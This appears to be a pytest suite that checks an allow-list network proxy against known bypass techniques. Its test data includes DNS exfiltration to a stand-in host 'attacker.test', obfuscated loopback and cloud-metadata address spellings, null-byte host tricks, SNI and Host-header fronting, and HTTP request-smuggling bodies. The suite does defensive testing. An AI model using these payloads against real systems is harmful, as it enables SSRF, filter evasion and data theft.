"""Mode `allow`: the bugs that other allow-lists had, each as an attempt.  Run by: pytest.

Names that carry data, names that lead inwards, answers that change, odd spellings of addresses, fronting,
requests behind an allowed one. The tests' internet records what arrives: nothing may.
"""

from __future__ import annotations

import os
from typing import TYPE_CHECKING, Any, Final

import pytest
from support import internet_map as at

if TYPE_CHECKING:
    from support.questions import Asker, Question, Told

pytestmark = pytest.mark.usefixtures("nothing_left")
SIX: Final = os.path.exists("/proc/net/if_inet6")
NAME: Final = "index.example.org"
BLOCKED: Final = "blocked.example.org"
TOLD: Final = "c2VjcmV0LXRva2Vu"


def get(host: str, form: str = "") -> str:
    """Give a request; form: what stands before the path for a proxy."""
    return f"GET {form}/x HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"


def connect(host: str, then: str = "x") -> Question:
    """Give the question for a tunnel."""
    return ("proxy", f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n", then)


def refused(found: dict[str, Any]) -> bool:
    """Say whether an answer is a denial: 4xx of the proxy, a SOCKS reply, a reset, an error."""
    if "reply" in found:
        return bool(found["reply"])
    said: str = found.get("head", "") + found.get("got", "")
    return "error" in found or said == "" or said.startswith("HTTP/1.1 4")


def failing(questions: list[Question], told: Told) -> list[tuple[Question, dict[str, Any]]]:
    """Give the questions that were not refused."""
    return [pair for pair in zip(questions, told.answers, strict=True) if not refused(pair[1])]


def test_names_carry_nothing_out(asker: Asker) -> None:
    """DNS exfiltration: no way in asks a name server for a name that no rule allows."""
    away = f"{TOLD}.attacker.test"
    questions: list[Question] = [
        *(("dns", away, kind, over) for kind in ("TXT", "A", "ANY") for over in ("udp", "tcp")),
        ("lookup", away),
        connect(f"{away}:443"),
        ("proxy", get(away, form=f"http://{away}")),
        ("socks", 3, away, 443, "x"),
        ("tls", "connect", away, 443, away),
        ("dns", f"{TOLD}.{NAME}", "A"),
        connect(f"{TOLD}.{NAME}:443"),
        connect(f"{TOLD}.deep.files.example.org:443"),
        # An allowed name at a port that is not: it does not even get resolved.
        connect("a.files.example.org:80"),
        ("socks", 3, "b.files.example.org", 80, "x"),
    ]
    told = asker.ask(*questions, rules=(f"{NAME}:443", "*.files.example.org:443"))
    assert [pair for pair in failing(questions, told) if pair[1].get("rcode", 0) == 0] == []
    assert told.names_asked == set()
    assert told.seen == []


def test_names_below_a_wildcard_are_few(asker: Asker) -> None:
    """Each name that may stand for `*` is a word to whoever runs the suffix's name server: 256, no more."""
    names = [f"n{number}.files.example.org" for number in range(300)]
    told = asker.ask(*(("dns", name) for name in names), rules=("*.files.example.org:443",))
    given = [name for name, found in zip(names, told.answers, strict=True) if found["answers"]]
    assert len(given) == 256
    assert told.names_asked == set()
    assert sum(row["count"] for row in told.rows(reason="limit-names")) == len(names) - 256


def test_allowed_names_lead_nowhere_inside(asker: Asker) -> None:
    """A name is allowed; its address is the host's own, a neighbour's, the metadata service's."""
    names = [name for name in at.LEAD_INWARDS if SIX or ":" not in at.NAMES[name][0]]
    questions: list[Question] = []
    for name in names:
        questions += [
            connect(f"{name}:80", get(name)),
            ("proxy", get(name, form=f"http://{name}")),
            ("socks", 3, name, 80, get(name)),
            ("tcp", name, 80, get(name)),
        ]
    told = asker.ask(*questions, rules=tuple(f"{name}:80" for name in names))
    assert failing(questions, told) == []
    assert told.saw("connection") == []
    for name in names:
        vias = {row["via"] for row in told.rows(host=name, verdict="denied", reason="unfit-address")}
        assert vias == {"connect", "http", "socks", "transparent"}, name


def test_answers_that_change(asker: Asker) -> None:
    """Rebinding: what was judged is what is connected to, whatever the next answer is."""
    questions = [connect(f"{at.REBIND}:80", get(at.REBIND)) for _ in range(12)]
    questions += [("tcp", at.REBIND, 80, get(at.REBIND)) for _ in range(12)]
    told = asker.ask(*questions, rules=(f"{at.REBIND}:80",))
    assert {row["to"] for row in told.saw("connection")} == {at.ONE}
    assert told.rows(host=at.REBIND, verdict="denied", reason="unfit-address") != []


def test_a_literal_rule_is_the_way_to_an_inward_address(asker: Asker) -> None:
    """Operators have internal services: by address and port, and then by a name that leads there too."""
    rules = (f"{at.INWARDS}:80", "inwards.example.org:80", f"inwards.example.org:{at.HTTP_ODD}")
    name = "inwards.example.org"
    questions: list[Question] = [
        ("tcp", at.INWARDS, 80, get(at.INWARDS)),
        connect(f"{at.INWARDS}:80", get(at.INWARDS)),
        ("tcp", name, 80, get(name)),
        ("tcp", name, at.HTTP_ODD, get(name)),
        ("tcp", at.INWARDS, at.HTTP_ODD, get(name)),
        ("tcp", at.INWARDS, at.ECHO, get(name)),
    ]
    told = asker.ask(*questions, rules=rules)
    assert ["HTTP/1.1 200" in found.get("got", "") for found in told.answers] == [True] * 3 + [False] * 3
    assert {(row["to"], row["port"]) for row in told.saw("connection")} == {(at.INWARDS, 80)}


def test_a_literal_rule_is_the_way_to_the_host_s_own_address(asker: Asker) -> None:
    """Public as it is, no name leads there unless a rule names it."""
    name = "own.example.org"
    questions: list[Question] = [("tcp", name, 80, get(name)), connect(f"{name}:80", get(name))]
    told = asker.ask(*questions, rules=(f"{name}:80",))
    assert failing(questions, told) == []
    assert {row["detail"] for row in told.rows(verdict="denied")} == {f"resolves to {at.OWN}: the host's own"}
    assert told.saw("connection") == []
    named = asker.ask(*questions, ("tcp", at.OWN, 80, get(name)), rules=(f"{name}:80", f"{at.OWN}:80"))
    assert all("HTTP/1.1 200" in found["got"] for found in named.answers), "the control"


# Spellings of 127.0.0.1, of the metadata service, and of an address that a rule names: none of them counts.
SPELLINGS: Final = (
    *(
        "2130706433",
        "0x7f000001",
        "0x7f.0.0.1",
        "0x7F.0x0.0x0.0x1",
        "0177.0.0.1",
        "127.1",
        "127.0.1",
        "0",
        "0x0",
    ),
    *("017700000001", "127.000.000.001", "00127.0.0.1", "127.0.0.1.", "127.0.0.1..", "127.65530"),
    "0.0.0.0",  # noqa: S104 (a destination)
    *("2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "169.254.169.254."),
    *("1572395042", "0x5db8d822", "93.184.55330", "93.12114978", "0135.0270.0330.042", "93.184.216.034"),
    *(
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::127.0.0.1]",
        "[::1]",
        "[0:0:0:0:0:0:0:1]",
        "[::1%lo]",
        "[::]",
    ),
    *("[::ffff:93.184.216.34]", "[::ffff:5db8:d822]", "[64:ff9b::93.184.216.34]", "[2002:5db8:d822::]"),
    *(
        "127.0.0.1%00.example.org",
        f"{NAME}%00",
        f"{NAME}\x00",
        f"{NAME}\x00.attacker.test",
        f"{NAME} ",
        f" {NAME}",
    ),
    *(f"user@{NAME}", f"{NAME}@127.0.0.1", f"127.0.0.1@{NAME}", f"127.0.0.1#{NAME}", f"127.0.0.1/{NAME}"),
    *(
        f"{NAME}..",
        f".{NAME}",
        "index..example.org",
        "*.example.org",
        "*",
        f"{NAME}:443",
        "-index.example.org",
    ),
    *("%69ndex.example.org", "index%2eexample.org", "localhost", "localhost.", "LOCALHOST", "ip6-localhost"),
    *(
        "a" * 64 + ".files.example.org",
        ".".join(["a" * 60] * 5) + ".files.example.org",
        "_.files.example.org.",
    ),
    *("\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1", "127\xe3\x80\x820\xe3\x80\x820\xe3\x80\x821"),
)
SPELL_RULES: Final = (f"{at.ONE}:80", f"{NAME}:80", "*.files.example.org:81")


def test_spellings_by_proxy(asker: Asker) -> None:
    questions: list[Question] = [connect(f"{host}:80", get(NAME)) for host in SPELLINGS]
    questions += [("proxy", get(host, form=f"http://{host}")) for host in SPELLINGS]
    told = asker.ask(*questions, rules=SPELL_RULES)
    assert failing(questions, told) == []
    assert told.seen == []


def test_spellings_by_socks(asker: Asker) -> None:
    short = [host for host in SPELLINGS if len(host) < 256]
    questions: list[Question] = [("socks", 3, host.strip("[]"), 80, get(NAME)) for host in short]
    questions += [("socks", 3, host, 80, get(NAME)) for host in short if host.startswith("[")]
    questions += [
        ("socks", 4, host, 80, get(NAME)) for host in ("::ffff:93.184.216.34", "::1", "::", "fe80::1")
    ]
    questions += [("socks", 1, host, 80, get(NAME)) for host in ("127.0.0.1", "0.0.0.0", "255.255.255.255")]  # noqa: S104
    told = asker.ask(*questions, rules=SPELL_RULES)
    assert failing(questions, told) == []
    assert told.seen == []


def test_spellings_by_name(asker: Asker) -> None:
    """None of them gets an address; programs read numbers by themselves, and there is no way to those."""
    names = [host.strip("[]") for host in SPELLINGS if "localhost" not in host.lower()]
    questions: list[Question] = [
        ("dns", name) for name in names if all(len(part) < 64 for part in name.split("."))
    ]
    told = asker.ask(*questions, rules=SPELL_RULES)
    # What is left of some of them, as a name on the wire, is the allowed name itself.
    fine = {f"{NAME}..", f".{NAME}", "index..example.org", f"{NAME}:443"}
    given = {
        question[1] for question, found in zip(questions, told.answers, strict=True) if found.get("answers")
    }
    assert given <= fine
    assert told.seen == []


def test_fronting_by_tls(asker: Asker) -> None:
    """Who is asked for in the hello has to be who was allowed; sni = "off" lifts just that."""
    other = "files.example.org"
    ways = ("direct", "connect", "socks")
    questions: list[Question] = [("tls", way, NAME, 443, other) for way in ways]
    questions += [("tls", way, NAME, 443, "", NAME) for way in ways]
    questions += [("tls", way, NAME, 443, NAME) for way in ways]
    told = asker.ask(*questions, rules=(f"{NAME}:443", f"{other}:443"))
    assert ["got" in found and "200" in found["got"] for found in told.answers] == [False] * 6 + [True] * 3
    assert {row["name"] for row in told.saw("http")} == {NAME}
    rows = told.rows(host=NAME, verdict="denied", reason="server-name")
    assert {row["via"] for row in rows} == {"connect", "socks", "transparent"}
    assert sum(row["count"] for row in rows) == 6

    off = asker.ask(
        *questions,
        rules=(f"{NAME}:443",),
        words=("--set", "network.sni=off", "--loosen", "network.sni=the test of it"),
    )
    assert [row["name"] for row in off.saw("http")].count(other) == 3


def test_fronting_by_header(asker: Asker) -> None:
    """Cleartext: the Host of every request has to be who was allowed, also behind the first."""
    twice = get(NAME).replace("Connection: close\r\n", "") + get(BLOCKED)
    doubled = f"GET /x HTTP/1.1\r\nHost: {NAME}\r\nHost: {BLOCKED}\r\nConnection: close\r\n\r\n"
    absolute = get(NAME, form=f"http://{BLOCKED}")
    questions: list[Question] = [
        ("tcp", NAME, 80, get(BLOCKED)),
        ("socks", 3, NAME, 80, get(BLOCKED)),
        connect(f"{NAME}:80", get(BLOCKED)),
        ("proxy", get(BLOCKED, form=f"http://{NAME}")),
        ("tcp", NAME, 80, doubled),
        ("tcp", NAME, 80, absolute),
        ("tcp", NAME, 80, f"GET /x HTTP/1.1\r\nHost : {BLOCKED}\r\nHost: {NAME}\r\n\r\n"),
        ("tcp", NAME, 80, f"GET /x HTTP/1.1\r\nHost: {NAME}\r\n Host: {BLOCKED}\r\n\r\n"),
        ("tcp", NAME, 80, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        ("tcp", NAME, 80, twice),
        (
            "proxy",
            get(NAME, form=f"http://{NAME}").replace("Connection: close\r\n", "")
            + get(BLOCKED, f"http://{BLOCKED}"),
        ),
    ]
    told = asker.ask(*questions, rules=(f"{NAME}:80",))
    hosts = [value for row in told.saw("http") for name, value in row["headers"] if name.lower() == "host"]
    assert hosts == [NAME] * len(told.saw("http"))
    assert len(hosts) == 2  # the first of each of the last two
    assert not any(BLOCKED in row["line"] for row in told.saw("http"))
    reasons = {row["reason"] for row in told.rows(verdict="denied")}
    assert {"host-header", "protocol", "not-allowed"} <= reasons


def test_without_the_check(asker: Asker) -> None:
    """Which is what sni = "off" says; what it does not lift is the list."""
    off = ("--set", "network.sni=off", "--loosen", "network.sni=the test of it")
    questions: list[Question] = [
        ("tcp", NAME, 80, get(BLOCKED)),
        connect(f"{NAME}:80", get(BLOCKED)),
        connect(f"{BLOCKED}:80", get(BLOCKED)),
        ("proxy", get(BLOCKED, form=f"http://{BLOCKED}")),
    ]
    told = asker.ask(*questions, rules=(f"{NAME}:80",), words=off)
    assert ["HTTP/1.1 200" in found["got"] for found in told.answers] == [True, True, False, False]


SMUGGLED: Final = f"GET /smuggled HTTP/1.1\r\nHost: {BLOCKED}\r\n\r\n"
BODIES: Final = {
    "CL.TE": f"Content-Length: {len(SMUGGLED) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
    "TE.CL": f"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n{SMUGGLED}\r\n0\r\n\r\n",
    "TE.TE": f"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n{SMUGGLED}",
    "odd TE": f"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
    "two lengths": f"Content-Length: 0\r\nContent-Length: {len(SMUGGLED)}\r\n\r\n{SMUGGLED}",
    "odd length": f"Content-Length: +0\r\n\r\n{SMUGGLED}",
    "bare line feeds": f"Content-Length: 0\n\n{SMUGGLED}",
    "in a header": f"X: y\r\r\n\r\n{SMUGGLED}",
}


@pytest.mark.parametrize("by", ["transparent", "absolute form"])
def test_nothing_is_smuggled(asker: Asker, by: str) -> None:
    form = f"http://{NAME}" if by == "absolute form" else ""
    head = f"POST {form}/x HTTP/1.1\r\nHost: {NAME}\r\n"
    questions: list[Question] = [
        ("proxy", head + body) if form else ("tcp", NAME, 80, head + body, {"end": True})
        for body in BODIES.values()
    ]
    told = asker.ask(*questions, rules=(f"{NAME}:80",))
    assert [row for row in told.saw("http") if "smuggled" in row["line"]] == []
